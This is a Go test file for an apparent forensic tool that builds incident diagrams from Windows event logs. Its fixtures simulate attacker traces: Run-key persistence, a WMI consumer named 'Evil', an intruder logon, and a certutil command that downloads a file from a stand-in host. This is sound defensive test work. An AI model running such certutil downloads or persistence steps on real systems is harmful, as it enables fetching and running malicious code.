package build_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"hunt/report"
	"hunt/report/build"
	"hunt/report/reporttest"
	"hunt/rules"
)

// drawn are the arrows of all pictures in words, those that are presumed with a question mark.
func drawn(r *report.Report) (out []string) {
	for i := range r.Incidents {
		p := r.Incidents[i].Picture
		if p == nil {
			continue
		}
		for _, a := range p.Arrows {
			verb := a.Verb
			if a.Presumed {
				verb += "?"
			}
			out = append(out, fmt.Sprintf("%s %s %s", p.Objects[a.From].Name, verb, p.Objects[a.To].Name))
		}
	}
	return out
}

// A picture has no arrow that no record says: a key starts nothing before it is made, and nothing that something else
// started; a file is passed to no program that ran before it was; a logon runs no program of another account.
func TestAPictureHasNoArrowThatNoRecordSays(t *testing.T) {
	t.Parallel()
	const x, explorer, cmd = `C:\Users\Public\x.exe`, `C:\Windows\explorer.exe`, `C:\Windows\System32\cmd.exe`
	run := func(w *reporttest.World, at string) {
		w.Sysmon(13, at, "EventType=SetValue", "ProcessGuid=300", "ProcessId=300", "Image="+x, `User=CORP\j.doe`,
			`TargetObject=HKU\S-1-5-21-1-2-3-1104\Software\Microsoft\Windows\CurrentVersion\Run\X`, "Details="+x)
	}
	const started = `…\CurrentVersion\Run\X started`
	for name, c := range map[string]struct {
		world     func(w *reporttest.World)
		want, not string
	}{
		"a key of the program's own": {func(w *reporttest.World) {
			w.Start("09:00:00", 300, x, x, 90, explorer)
			run(w, "09:00:05")
		}, "x.exe set the registry value", started},
		"a start by another program": {func(w *reporttest.World) {
			run(w, "09:00:00")
			w.Start("09:00:05", 301, x, x, 91, cmd)
		}, "cmd.exe started x.exe", started},
		"a start at logon, or by the user": {func(w *reporttest.World) {
			run(w, "09:00:00")
			w.Start("09:00:05", 301, x, x, 90, explorer)
		}, started + "? x.exe", started + " x.exe"},
		"what the user or the key started": {func(w *reporttest.World) {
			run(w, "09:00:00")
			w.Start("09:00:05", 301, x, x, 90, explorer)
		}, "explorer.exe started x.exe", started + " x.exe"},
		"a file that the program writes": {func(w *reporttest.World) {
			const certutil = `C:\Windows\System32\certutil.exe`
			w.Start("09:00:00", 300, certutil, "certutil -urlcache -f http://a.example/a "+x, 90, cmd)
			w.Created("09:00:02", 300, certutil, x)
		}, "certutil.exe wrote x.exe", "x.exe passed to"},
		"a file that was there": {func(w *reporttest.World) {
			w.Created("09:00:00", 290, cmd, `C:\Users\Public\cmd.exe`)
			w.Start("09:00:02", 300, cmd, cmd+` /c C:\Users\Public\cmd.exe`, 90, explorer)
		}, "cmd.exe passed to cmd.exe", "cmd.exe ran as cmd.exe"},
		"what a consumer is to run": {func(w *reporttest.World) {
			w.Sysmon(20, "09:00:00", "EventType=WmiConsumerEvent", "Operation=Created", `User=CORP\j.doe`, "Name=Evil",
				"Type=Command Line", `Destination=`+x)
		}, "j.doe created the WMI event consumer Evil", "x.exe created"},
		"a right that the system checked": {func(w *reporttest.World) {
			w.Logon(reporttest.TestHost, "09:00:00", "intruder", "0x51111", "3", "192.0.2.7")
			w.Security(4673, "09:00:02", "SubjectUserSid=S-1-5-21-1-2-3-1105", "SubjectUserName=intruder",
				"SubjectDomainName=CORP", "SubjectLogonId=0x51111", "PrivilegeList=SeMachineAccountPrivilege",
				"ProcessId=0x2bc", `ProcessName=C:\Windows\System32\lsass.exe`)
		}, "intruder used the right SeMachineAccountPrivilege", "lsass.exe"},
		"a parent that only its pid names": {func(w *reporttest.World) {
			for n, line := range []string{cmd, x} {
				w.Security(4688, fmt.Sprint("09:00:0", n), "SubjectUserSid=S-1-5-21-1-2-3-1104",
					"SubjectUserName=j.doe", "SubjectDomainName=CORP", "SubjectLogonId=0x7030d",
					fmt.Sprintf("NewProcessId=%#x", 0x200+n*4),
					"NewProcessName="+line, fmt.Sprintf("ProcessId=%#x", 0x1fc+n*4), "CommandLine="+line)
			}
		}, "cmd.exe started? x.exe", "cmd.exe started x.exe"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := reporttest.NewWorld(t)
			c.world(w)
			got := drawn(w.Report(build.Options{}, rules.Options{}, "drawn.toml"))
			has := func(part string) bool {
				return slices.ContainsFunc(got, func(s string) bool { return strings.Contains(s, part) })
			}
			if !has(c.want) || has(c.not) {
				t.Errorf("%s, want %q and not %q", strings.Join(got, "\n"), c.want, c.not)
			}
		})
	}
}

// A logon from a host of the evidence came from that host: nobody says which account used it there.
func TestALogonComesFromItsHost(t *testing.T) {
	t.Parallel()
	r, _ := reporttest.ReportOf(t, "../../samples/intrusion", build.Options{}, rules.Options{})
	if got := drawn(r); !slices.Contains(got, "ws-adm-02 logged on to o.pavlov.adm") {
		t.Errorf("%s", strings.Join(got, "\n"))
	}
}
